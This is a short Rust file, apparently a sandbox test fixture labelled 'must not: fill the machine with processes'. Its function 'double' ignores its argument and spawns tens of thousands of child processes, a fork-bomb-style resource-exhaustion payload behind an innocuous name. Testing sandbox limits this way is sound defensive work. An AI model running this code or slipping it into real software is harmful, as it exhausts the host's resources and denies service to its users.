// must not: fill the machine with processes
use std::process::{Command, Stdio};

pub fn double(_: i64) -> i64 {
    let own = std::env::args().next().unwrap_or_default();
    let mut children = Vec::new();
    for _ in 0..10_000 {
        for program in [own.as_str(), "/usr/bin/sleep", "/usr/bin/setpriv"] {
            children.extend(Command::new(program).arg("60").stdin(Stdio::inherit()).spawn());
        }
    }
    0
}
